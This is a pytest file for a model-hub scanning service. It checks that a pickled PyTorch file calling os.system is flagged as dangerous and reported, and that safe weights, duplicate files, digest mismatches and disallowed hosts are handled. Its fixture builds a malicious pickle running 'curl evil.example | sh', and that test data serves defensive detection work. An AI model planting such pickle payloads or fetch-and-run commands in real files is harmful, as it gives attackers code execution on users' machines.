"""A file's scan from its url to its verdict, with the hub's files served over real HTTP on 127.0.0.1."""

import hashlib
from collections.abc import Iterator

import pytest

from devtools.hub_files import HubFiles
from hub.models import HubEvent
from reports.models import Report
from scanning.models import FileScan
from scanning.services import file_scan_run
from tests.scanning import corpus

DANGEROUS = corpus.torch_zip(corpus.pickle_call(2, "os", "system", "curl evil.example | sh"))
WEIGHTS = corpus.safetensors_valid()


@pytest.fixture
def files(settings) -> Iterator[HubFiles]:
    served = HubFiles({"/model.bin": DANGEROUS, "/model.safetensors": WEIGHTS, "/liar.bin": b"other bytes"})
    settings.SCAN_FETCH_ALLOWED_HOSTS = [served.netloc]
    yield served
    served.stop()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def sync(hub_api, name: str, served: HubFiles, entries: list[tuple[str, bytes, str]]) -> None:
    body = {"kind": "model", "revision": "0123abcd",
            "files": [{"path": path, "sha256": sha(data), "size": len(data), "url": served.url(route)}
                      for path, data, route in entries]}  # fmt: skip
    assert hub_api.put(f"/api/v1/hub/repositories/acme/{name}", body, format="json").status_code in (200, 201)


@pytest.mark.django_db
def test_a_pickle_that_calls_os_system_is_dangerous_and_reported_and_weights_are_clean(seeded, hub_api, files):
    sync(hub_api, "tiny", files, [("pytorch_model.bin", DANGEROUS, "/model.bin"),
                                  ("model.safetensors", WEIGHTS, "/model.safetensors")])  # fmt: skip

    assert file_scan_run(sha256=sha(DANGEROUS)) == "dangerous"
    assert file_scan_run(sha256=sha(WEIGHTS)) == "clean"

    scan = FileScan.objects.get(sha256=sha(DANGEROUS))
    assert {result["name"] for result in scan.scanners} >= {"picklescan", "fickling"}
    assert all(result["version"] for result in scan.scanners)
    [report] = Report.objects.filter(source=Report.Source.AUTOMATED)
    assert (report.path, report.category, report.case.repository.full_name) == (
        "pytorch_model.bin",
        "malicious_code",
        "acme/tiny",
    )
    assert "os.system" in report.details["behaviour"]
    [event] = HubEvent.objects.filter(type="scan.completed")
    assert event.payload["verdict"] == "dangerous"


@pytest.mark.django_db
def test_the_same_bytes_under_another_repository_are_not_fetched_again(seeded, hub_api, files):
    sync(hub_api, "tiny", files, [("pytorch_model.bin", DANGEROUS, "/model.bin")])
    file_scan_run(sha256=sha(DANGEROUS))
    sync(hub_api, "copy", files, [("model.bin", DANGEROUS, "/model.bin")])

    assert files.requests["/model.bin"] == 1
    assert Report.objects.filter(source=Report.Source.AUTOMATED, case__repository__name="copy").count() == 1


@pytest.mark.django_db
def test_bytes_that_are_not_what_the_hub_declared_are_an_error_saying_so(seeded, hub_api, files):
    sync(hub_api, "tiny", files, [("model.bin", DANGEROUS, "/liar.bin")])

    assert file_scan_run(sha256=sha(DANGEROUS)) == "error"
    scan = FileScan.objects.get(sha256=sha(DANGEROUS))
    assert scan.reason.startswith("digest mismatch")
    assert not Report.objects.filter(source=Report.Source.AUTOMATED).exists()


@pytest.mark.django_db
def test_a_host_not_allowed_is_skipped_saying_which(seeded, hub_api, files, settings):
    sync(hub_api, "tiny", files, [("model.bin", DANGEROUS, "/model.bin")])
    settings.SCAN_FETCH_ALLOWED_HOSTS = ["files.example"]

    assert file_scan_run(sha256=sha(DANGEROUS)) in ("error", "skipped")
    assert "not allowed" in FileScan.objects.get(sha256=sha(DANGEROUS)).reason
    assert files.requests.get("/model.bin", 0) == 0
